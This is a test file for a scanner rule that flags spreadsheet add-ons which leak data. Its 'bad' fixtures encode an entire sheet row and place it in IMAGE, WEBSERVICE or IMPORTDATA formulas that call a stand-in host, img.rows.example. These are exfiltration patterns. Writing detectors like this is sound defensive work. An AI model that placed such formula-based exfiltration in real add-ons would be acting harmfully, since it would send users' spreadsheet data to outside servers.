import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const CODE = 'exports.code = (...parts) => [...new TextEncoder().encode(parts.flat().join(\'|\'))].map((each) => each.toString(36)).join(\'\');';
const said = (write: string, code = CODE): string[] => findingsOf(rule, { 'index.js': `const { code } = require('./code'); exports.activate = async ({ cells, commands }) => commands.registerCommand('a.b', async () => { const chosen = await cells.getSelection(); const used = await cells.getUsedRange(); for (let i = 0; i < chosen.values.length; i++) { ${write} } });`, 'code.js': code }, { dialect: 'formula', entry_points: ['index.js'], permissions: [] }).map(({ severity, file }) => `${severity} ${file}`);

test('bad: a formula loads an address in which a whole row of a sheet stands, unreadably', () => {
  for (const write of [
    'const row = used.values[i] || []; const id = code(chosen.values[i][0], row); await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/i/${id}.png")`);',
    "await cells.setFormula(i, 9, '=IMAGE(\"https://img.rows.example/' + code(...used.values[i]) + '\")');",
    'const AT = "https://img.rows.example/i/"; await cells.setCell(i, 9, `=WEBSERVICE("${AT}${code(used.values[i].join(","))}")`);',
    'const { values } = used; for (const row of used.values) await cells.setFormula(i, 9, `=IMPORTDATA("https://img.rows.example/${code([...row])}")`);',
    'const all = used.values; const row = all[i]; const part = await code({ row }, [row]); await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/${part}")`);',
  ]) assert.deepEqual(said(write), ['high index.js'], write);
});

test('good: one cell is in the address, what somebody chose, what can be read, or nothing of a server', () => {
  for (const write of [
    'const row = used.values[i]; await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/i/${code(row[0])}.png")`);',
    'await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/i/${code(chosen.values[i][0])}.png?n=${used.values.length}")`);',
    'await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/i/${code(used.values[i].at(0))}.png")`);',
    'await cells.setFormula(i, 9, `=IMAGE("https://img.rows.example/i/${code(chosen.values[i])}.png")`);',
    'await cells.setFormula(i, 9, `=SUM(${code(used.values[i])})`);',
    'await cells.setFormula(i, 9, `=HYPERLINK("https://img.rows.example/${code(used.values[i])}")`);',
  ]) assert.deepEqual(said(write), [], write);
  assert.deepEqual(said('await cells.setFormula(i, 9, `=IMAGE("https://chart.rows.example/c?d=${code(used.values[i])}")`);', "exports.code = (row) => row.map(Number).join(',');"), [], 'a chart of a row');
});
